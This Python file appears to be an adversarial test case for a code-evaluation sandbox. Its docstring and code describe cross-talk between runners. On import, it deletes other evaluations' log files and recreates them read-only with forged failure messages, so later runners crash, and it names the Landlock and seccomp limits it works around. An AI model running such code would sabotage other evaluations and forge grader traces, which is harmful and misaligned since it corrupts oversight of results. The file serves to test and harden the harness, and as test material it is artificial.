"""Class: cross-talk (the worker's log directory, writable by every runner): read-only log files
planted under the names later evaluations will log to.

Tries: find the worker's log directory through its own stdout (`/proc/self/fd/1` names
`<logs>/eval-<n % 64>.log`), then, for every other `eval-<i>.log` (i < 64), remove the file if it
is there and create it again read-only (mode 0444, in the open call itself: no chmod, which
seccomp refuses) holding a planted text. The runner's Landlock rules give the log directory
WRITE_PLAIN (create, write, truncate, remove regular files), so no rule stops this; a runner has no
capabilities, so a later runner cannot open a 0444 file for writing: its `_redirect` of the next
evaluation's log raises outside any handler and the runner dies, and the supervisor puts the
planted file into that evaluation's trace log. It also plants `runner-<k+1..k+64>.log` the same
way (the zygote opens them before it drops anything: harmless where the worker is root, a
runner that cannot start where it is not). Computes the right answer itself.
Expect: the planted files refused or removed; the next honest solution keeps PASSED.
"""
import os
import re

import torch

_report = []
PLANTED = b"H19 PLANTED LOG: the solution raised: forged message from another solution\n"


def _plant(path):
    try:
        os.unlink(path)
    except OSError:
        pass
    try:
        fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o444)
        try:
            os.write(fd, PLANTED)
        finally:
            os.close(fd)
        return True
    except OSError as e:
        _report.append(f"{os.path.basename(path)}: {e.strerror}")
        return False


def _attack():
    try:
        mine = os.readlink("/proc/self/fd/1")
        own_runner_log = os.readlink("/proc/self/fd/3")
    except OSError as e:
        _report.append(f"readlink: {e}")
        return
    logs = os.path.dirname(mine)
    planted = 0
    for i in range(64):
        p = os.path.join(logs, f"eval-{i}.log")
        if p != mine:
            planted += _plant(p)
    m = re.search(r"runner-(\d+)\.log$", own_runner_log)
    if m and os.path.dirname(own_runner_log) == logs:
        k = int(m.group(1))
        for j in range(k + 1, k + 65):
            planted += _plant(os.path.join(logs, f"runner-{j}.log"))
    _report.append(f"planted {planted} read-only files in {logs}")


_attack()
print("LOCKOUT REPORT: " + "; ".join(_report[:6]), flush=True)


def run(x, weight, eps):
    xf = x.float()
    return (xf * torch.rsqrt(xf.pow(2).mean(-1, keepdim=True) + eps) * weight.float()).half()
